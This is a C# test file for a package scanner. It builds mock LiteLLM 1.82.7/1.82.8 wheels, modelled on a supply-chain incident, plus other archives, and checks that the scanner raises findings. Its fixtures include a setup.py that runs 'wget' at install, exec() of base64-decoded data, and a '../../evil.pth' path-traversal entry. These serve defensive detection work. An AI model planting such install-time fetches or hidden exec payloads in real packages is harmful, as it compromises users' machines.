using ModelGuard.Dependencies.PythonPackages;
using ModelGuard.Dependencies.Reading;
using ModelGuard.Dependencies.Tests.Support;
using ModelGuard.Rules;
using ModelGuard.Testing.Records;
using Xunit;

namespace ModelGuard.Dependencies.Tests.PythonPackages;

/// <summary>The LiteLLM releases of March 2026, rebuilt with a payload that prints a word: what is found before any advisory names them.</summary>
public sealed class IncidentTests : IDisposable
{
    private readonly ScratchFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public void LiteLLM_1_82_7_runs_on_import_and_its_wheel_says_so()
    {
        string wheel = PythonBuilder.Wheel(_folder, "litellm-1.82.7-py3-none-any.whl", ("litellm/__init__.py", "from .proxy import proxy_server\n"), ("litellm/proxy/proxy_server.py", PythonBuilder.ProxyServer));

        PackageList list = ArchiveReader.Read(wheel, "litellm-1.82.7-py3-none-any.whl");

        Assert.Equal("litellm 1.82.7", $"{list.Packages[0].Name} {list.Packages[0].Version}");
        Finding finding = Assert.Single(list.Findings);
        Assert.Equal(("MG4015", Severity.Error, "litellm/proxy/proxy_server.py", 8), (finding.Rule.Id, finding.Severity, finding.Place.Member, finding.Place.Line));
    }

    [Fact]
    public void LiteLLM_1_82_8_runs_at_every_start_and_its_wheel_and_the_environment_say_so()
    {
        (string, string)[] files = [("litellm/__init__.py", "x = 1\n"), ("litellm/proxy/proxy_server.py", PythonBuilder.ProxyServer), ("litellm_init.pth", PythonBuilder.StartupFile)];
        string wheel = PythonBuilder.Wheel(_folder, "litellm-1.82.8-py3-none-any.whl", files);
        _folder.Write("venv/pyvenv.cfg", "");
        PythonBuilder.Install(_folder, "venv/lib/python3.12/site-packages", "litellm", "1.82.8", files);

        PackageList archive = ArchiveReader.Read(wheel, "x.whl");
        PackageList installed = EnvironmentReader.Read(_folder.At("venv/lib/python3.12/site-packages"), path => path);

        foreach (PackageList list in new[] { archive, installed })
        {
            Assert.Equal(1, list.AssertFound("MG4010", "found code").Place.Line);
            list.AssertFound("MG4015", "exec() of something it unpacks");
        }
    }

    [Fact]
    public void LiteLLM_1_82_6_is_quiet()
    {
        string wheel = PythonBuilder.Wheel(_folder, "litellm-1.82.6-py3-none-any.whl", ("litellm/__init__.py", "from .proxy import proxy_server\n"), ("litellm/proxy/proxy_server.py", "import asyncio\n"));

        Assert.Empty(ArchiveReader.Read(wheel, "x.whl").Findings);
    }

    [Fact]
    public void The_setup_of_a_source_archive_that_fetches_what_it_runs_is_found()
    {
        string archive = PythonBuilder.SourceArchive(
            _folder, "tool-1.0.tar.gz", ("tool-1.0/PKG-INFO", "Name: tool\n"), ("tool-1.0/setup.py", "import os\nfrom setuptools import setup\nos.system('wget https://example.org/x')\nsetup()\n"));

        PackageList list = ArchiveReader.Read(archive, "tool-1.0.tar.gz");

        Assert.Equal(("tool-1.0/setup.py", 3), (list.AssertFound("MG4015", "system() of a command").Place.Member, list.Findings[0].Place.Line));
    }

    [Fact]
    public void An_archive_that_is_cut_short_or_leads_out_is_a_finding_and_never_an_exception()
    {
        string wheel = PythonBuilder.Wheel(_folder, "a-1.0-py3-none-any.whl", ("../../evil.pth", "import os\n"), ("a/__init__.py", "exec(base64.b64decode('eA=='))\n"));
        string source = PythonBuilder.SourceArchive(_folder, "a-1.0.tar.gz", ("a-1.0/setup.py", "exec(base64.b64decode('eA=='))\n"), ("a-1.0/big.txt", new string('x', 200_000)));

        PackageList list = ArchiveReader.Read(wheel, "a.whl");
        list.AssertFound("MG4014", "../../evil.pth");
        list.AssertFound("MG4015", "exec()");
        foreach (string path in new[] { wheel, source })
        {
            byte[] whole = File.ReadAllBytes(path);
            for (int length = 0; length < whole.Length; length += Math.Max(1, whole.Length / 40))
            {
                File.WriteAllBytes(path, whole[..length]);
                Assert.NotEmpty(ArchiveReader.Read(path, "x").Findings);
            }
        }
    }
}
